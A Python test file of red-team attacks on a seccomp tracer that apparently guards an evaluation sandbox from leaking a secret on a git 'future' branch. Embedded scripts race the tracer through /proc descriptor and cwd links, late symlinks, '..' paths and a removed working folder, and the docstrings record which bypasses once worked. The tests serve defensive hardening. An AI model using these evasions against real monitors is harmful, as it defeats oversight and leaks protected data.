"""Red-team attacks on fab55f6: a missing name the machine's git opens is told by a walk that
follows no link.

The machine's git is exempt from pinning: its opens are let go on (CONTINUE) and each is judged
by the tracer's walk of its path in git's root (``resolve_at``, ``gitread_row``,
``git_disguised_read`` in seccomp_trace.c): an object file read as a plain file (``git diff
--no-index --binary``, ``git hash-object -w`` of it) or git storage reached through a path that
does not name it is a finding. fab55f6 made that walk cheaper: when it fails with ENOENT, a
second ``openat2`` following no link (``RESOLVE_NO_SYMLINKS``) decides; ENOENT there too is "a
missing name, no link on the way", and the slow walk through links (``resolve``) is skipped --
and with it the rule of ``resolve`` that a missing name under a ``/proc`` descriptor, ``cwd``,
``root`` or ``map_files`` link (``proc_link_path``) is a finding.

Each attack is a candidate's train code in the real sandbox under the compiled tracer, over a
task repository whose ``future`` branch holds ``FUTURE_SECRET_42`` (its loose object's path in
``obj.txt``, written from outside the box). The timed ones drive ``git hash-object -w
--stdin-paths`` (git opens a path the moment it reads it from its stdin, no ``stat`` before) and
watch ``/proc/<git>/syscall``: ``257`` while git waits in its ``openat`` for the tracer, then
``running`` once the tracer has answered (its walks done) and before the kernel's own walk --
the moment to make the name appear. The object file's bytes become a blob of the phase's own,
printed by ``git cat-file --batch`` (no revision on any command line).

An attack that works is a strict xfail asserting the safe outcome (its reason says how it
works); one that is stopped is a passing test. Every one first asserts that it ran.

``EVOTREE_REDTEAM_TRACER=<binary>`` runs them under another build of the tracer (the comparison
with the one before fab55f6: ``git show fab55f6~1:harness/seccomp_trace.c``, compiled).

Found (docs/threat-model.md, "The machine's git's opens are walked once"): fab55f6's own -- a
descriptor (two spellings) or a process that appears after the walks under a /proc link, won
unflagged with it, a finding before: fab55f6 reverted, passing tests now. Older, won before
fab55f6 too: the same /proc paths reached by ".." (added by the lead; closed by the fold of
resolve_in) and git's working folder removed, then ``..`` (closed: a finding in
git_disguised_read) -- passing tests now; a plain name that appears after the walks (git's opens
go on, CONTINUE): an xfail (a race: not strict) until git's read-opens were pinned (the tracer
answers them from its own walk, as a program's); a passing test now.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest
from test_redteam_gym_trace import SECRET, _flagged, _safe
from test_redteam_trace_deputy import _lines, _run
from test_redteam_trace_deputy import seccomp as seccomp  # noqa: F401 - the fixture
from test_redteam_trace_own_links_redteam import _LEAK, _future_object

from evotree.harness import sandbox


def _works(reason: str) -> pytest.MarkDecorator:
    return pytest.mark.xfail(strict=True, raises=AssertionError, reason=reason)


@pytest.fixture(autouse=True)
def _tracer_binary(monkeypatch: pytest.MonkeyPatch) -> None:
    """Another build of the tracer where EVOTREE_REDTEAM_TRACER names one (the comparison)."""
    other = os.environ.get("EVOTREE_REDTEAM_TRACER")
    if other:
        monkeypatch.setattr(sandbox, "compiled_tracer", lambda: Path(other))


#: ``timed(path, show, hide, tries)``: runs ``git hash-object -w --no-filters --stdin-paths``
#: (git opens each path it reads from its stdin, with no stat before), HIDE() once it blocks
#: reading its stdin (``/proc/<git>/syscall`` "0 ..."), then writes PATH (or PATH()); once git waits in its
#: openat for the tracer ("257 ...") and then is answered ("running"), SHOW() at once: the name
#: is there after the tracer's walks, before the kernel's. The blob git made holds the object
#: file's bytes: staged (``update-index --index-info``, its id on the input) and written out
#: (``checkout-index``) as a file of the work tree, no id on any command line, then inflated.
_TIMED = """\
import subprocess, sys, time
sys.stdout.reconfigure(line_buffering=True)
xx, hexname = obj.split("/")[-2:]

def blob_text(oid):
    subprocess.run(["git", "update-index", "--add", "--index-info"], check=True,
                   input=("100644 %s\\tleak.bin\\n" % oid).encode())
    subprocess.run(["git", "checkout-index", "-f", "leak.bin"], check=True)
    text = zlib.decompress(open("leak.bin", "rb").read())
    return text.decode("latin1").replace("\\x00", " ").replace("\\n", " ")

def hog():  # a process spinning on one CPU, the watcher on the others: (its CPU, its pid)
    cpus = sorted(os.sched_getaffinity(0))
    if len(cpus) < 2:
        return None
    pid = os.fork()
    if pid == 0:
        os.sched_setaffinity(0, {cpus[0]})
        while True:
            pass
    os.sched_setaffinity(0, set(cpus[1:]))
    return cpus[0], pid

def timed(path, show, hide, tries, env=None, cwd=None, ready=None, slow=None):
    seen_any = answered_any = 0
    for n in range(1, tries + 1):
        if ready:
            ready()
        git = subprocess.Popen(["git", "hash-object", "-w", "--no-filters", "--stdin-paths"],
                               stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                               stderr=subprocess.DEVNULL, env=env, cwd=cwd)
        if slow:  # git on the hog's CPU, at idle priority: it resumes late once answered
            os.sched_setaffinity(git.pid, {slow[0]})
            os.sched_setscheduler(git.pid, os.SCHED_IDLE, os.sched_param(0))
        sc = os.open("/proc/%d/syscall" % git.pid, os.O_RDONLY)
        def state():
            try:
                return os.pread(sc, 32, 0).split(b" ", 1)[0].strip()
            except OSError:
                return b"gone"
        until = time.time() + 10
        while state() != b"0" and time.time() < until:
            pass
        hide()
        os.write(git.stdin.fileno(), (path() if callable(path) else path).encode() + b"\\n")
        seen = answered = False
        until = time.time() + 5
        while time.time() < until:
            s = state()
            if s == b"257":
                seen = True
            elif seen:
                show()
                answered = True
                break
            elif s == b"gone" or (s == b"-1" and git.poll() is not None):
                break  # git has exited (answered before a 257 was seen: a try lost)
        seen_any += seen
        answered_any += answered
        git.stdin.close()
        out = git.stdout.read().strip()
        git.wait()
        os.close(sc)
        if git.returncode == 0 and out:
            print("attack OK", blob_text(out.decode()))
            break
    print("seen", seen_any, "answered", answered_any)
    print("tries", n)
"""

#: (A) the change's own: git opens /proc/<phase>/fd/N/d/<hex> (d: a link of the phase's to the
#: object's folder; N: a descriptor of the work folder, O_PATH, unreported) while N is closed:
#: both walks say ENOENT (no link before fd/N), so no row; N is dup2'd the moment the tracer has
#: answered. Before fab55f6 the slow walk (resolve) made every such open a finding, N open or not
#: (a missing name under a /proc descriptor link: proc_link_path), so no try went unseen.
_PROC_FD_APPEARS = """\
os.symlink(os.path.join(work, os.path.dirname(obj)), "d")
wd = os.open(".", os.O_PATH | os.O_DIRECTORY)
N = 200
def show():
    os.dup2(wd, N)
def hide():
    try:
        os.close(N)
    except OSError:
        pass
me = os.getpid()
timed({spelling}.format(pid=me, n=N, hex=hexname), show, hide, {tries})
"""

#: (B) a plain name made after the tracer found it missing: git opens e/<hex> while e is missing,
#: e becomes a link to the object's folder the moment the tracer has answered
_NAME_APPEARS = """\
target = os.path.join(work, os.path.dirname(obj))
def show():
    os.symlink(target, "e")
def hide():
    if os.path.lexists("e"):
        os.unlink("e")
timed("e/" + hexname, show, hide, {tries})
"""

#: (C) no race: git's cwd removed while it waits on its stdin, then ../d/<hex> (".." from a
#: removed folder is its old parent for the kernel); the tracer joins the path to the cwd's
#: link text "<work>/c (deleted)", a name missing with no link on the way
_REMOVED_CWD = """\
os.symlink(os.path.join(work, os.path.dirname(obj)), "d")
os.mkdir("c")
env = dict(os.environ, GIT_DIR=os.path.join(work, ".git"))
def ready():
    os.makedirs("c", exist_ok=True)
def hide():
    os.rmdir("c")
timed("../d/" + hexname, lambda: None, hide, {tries}, env=env, cwd="c", ready=ready)
"""


#: (A') the same with a process that appears: git opens /proc/<P>/cwd/d/<hex> where P is the
#: pid the box's next fork will get (one fork's pid, plus one), missing for both walks; the
#: fork (a copy of the phase, its cwd the work folder) is made the moment the tracer has
#: answered. Before fab55f6: a missing name under a /proc cwd link was a finding.
_PROCESS_APPEARS = """\
import signal
os.symlink(os.path.join(work, os.path.dirname(obj)), "d")
children = []
def predicted():
    probe = os.fork()
    if probe == 0:
        os._exit(0)
    os.waitpid(probe, 0)
    return "/proc/%d/cwd/d/%s" % (probe + 1, hexname)
def show():
    child = os.fork()
    if child == 0:
        time.sleep(20)
        os._exit(0)
    children.append(child)
def hide():
    while children:
        child = children.pop()
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
slow = hog()
print("hog", slow is not None)
timed(predicted, show, hide, {tries}, slow=slow)
hide()
if slow:
    os.kill(slow[1], signal.SIGKILL)
"""


#: the descriptor's spellings (str.format: the phase's pid, N, the object's hex name)
_SPELLINGS = {
    "proc-pid-fd": '"/proc/{pid}/fd/{n}/d/{hex}"',
    "proc-pid-task-fd": '"/proc/{pid}/task/{pid}/fd/{n}/d/{hex}"',
    # the lead's, after the report: the same /proc path reached by ".." (a check of the path as
    # written does not see /proc in it; the tracer before fab55f6 did not either)
    "proc-pid-fd-by-dotdot": '"/usr/../proc/{pid}/fd/{n}/d/{hex}"',
    "proc-pid-fd-relative-dotdot": '"../../../../../../../../../../proc/{pid}/fd/{n}/d/{hex}"',
}

#: (control) the descriptor there all along: the same exfiltration, the open a finding
_THERE_ALL_ALONG = """\
os.symlink(os.path.join(work, os.path.dirname(obj)), "d")
os.dup2(os.open(".", os.O_PATH | os.O_DIRECTORY), 200)
path = "/proc/%d/fd/200/d/%s" % (os.getpid(), hexname)
out = subprocess.run(["git", "hash-object", "-w", "--no-filters", "--stdin-paths"],
                     input=(path + "\\n").encode(), capture_output=True).stdout.strip()
print("attack OK", blob_text(out.decode()))
print("tries", 1)
"""


def _ran(proc: subprocess.CompletedProcess) -> None:
    """The attack ran (git was driven at least once): not a pass otherwise."""
    if "tries" not in _lines(proc):
        pytest.fail(proc.stdout + proc.stderr[-2000:])


@pytest.mark.heavy
@pytest.mark.parametrize("spelling", sorted(_SPELLINGS))
def test_a_descriptor_that_appears_after_the_walks(
    tmp_path: Path, seccomp: None, spelling: str
) -> None:
    """Stopped (fab55f6 reverted; the ".." spellings by the fold of resolve_in): git's open of
    /proc/<phase>/fd/N/d/<hex> with N closed is a finding, a missing name under a /proc
    descriptor link, so the phase's dup2 of N after the tracer's walks wins nothing unseen.
    (With fab55f6: missing for both walks, no row; the race won in 1-16 tries. The ".."
    spellings won before fab55f6 too: a check of the path as written saw no /proc in it.)"""
    script = _LEAK + _TIMED + _PROC_FD_APPEARS.format(spelling=_SPELLINGS[spelling], tries=200)
    proc, audit = _run(tmp_path, script, _future_object, timeout=300)
    _ran(proc)
    _safe(proc, audit)


@pytest.mark.heavy
def test_a_process_that_appears_after_the_walks(tmp_path: Path, seccomp: None) -> None:
    """Stopped (fab55f6 reverted): git's open of /proc/<P>/cwd/d/<hex>, P the box's next pid,
    is a finding (a missing name under a /proc cwd link), so a process forked after the
    tracer's walks wins nothing unseen. (With fab55f6: no row, won in 1-5 tries.)"""
    script = _LEAK + _TIMED + _PROCESS_APPEARS.format(tries=200)
    proc, audit = _run(tmp_path, script, _future_object, timeout=300)
    _ran(proc)
    _safe(proc, audit)


@pytest.mark.heavy
def test_the_descriptor_there_all_along_is_a_finding(tmp_path: Path, seccomp: None) -> None:
    """The control: the same read with N open at the tracer's walk is flagged (the secret comes
    out, the audit sees it), so the timed attacks above can fail."""
    proc, audit = _run(tmp_path, _LEAK + _TIMED + _THERE_ALL_ALONG, _future_object)
    _ran(proc)
    assert SECRET in proc.stdout and _flagged(audit), proc.stdout + proc.stderr[-2000:]


@pytest.mark.heavy
def test_a_name_that_appears_after_the_walks(tmp_path: Path, seccomp: None) -> None:
    """Stopped (issue 29: the machine's git's read-opens pinned): a name made after the
    tracer's walk found it missing (a link e -> the object's folder, made once
    /proc/<git>/syscall shows the openat answered) is no longer reached by a second walk: the
    tracer answered ENOENT itself, and git has nothing. (Before: the open went on, CONTINUE,
    and the kernel's walk reached the object; won in 1-29 tries here, not always: an xfail.)"""
    script = _LEAK + _TIMED + _NAME_APPEARS.format(tries=200)
    proc, audit = _run(tmp_path, script, _future_object, timeout=300)
    _ran(proc)
    print("race: seen", _lines(proc).get("seen"), "tries", _lines(proc).get("tries"))  # -s shows it
    _safe(proc, audit)


@pytest.mark.heavy
def test_a_removed_working_folder(tmp_path: Path, seccomp: None) -> None:
    """Stopped (the lead's fix after the report): git's cwd removed while it waits on its
    stdin, then its open of ../d/<hex>, which the kernel walks up from the removed folder: an
    open of the machine's git relative to a removed folder is a finding (git_disguised_read),
    never a missing name. (Before: the tracer walked '<work>/c (deleted)/../d/<hex>', missing,
    no row; won at the first try, before fab55f6 too.)"""
    script = _LEAK + _TIMED + _REMOVED_CWD.format(tries=20)
    proc, audit = _run(tmp_path, script, _future_object, timeout=300)
    _ran(proc)
    _safe(proc, audit)
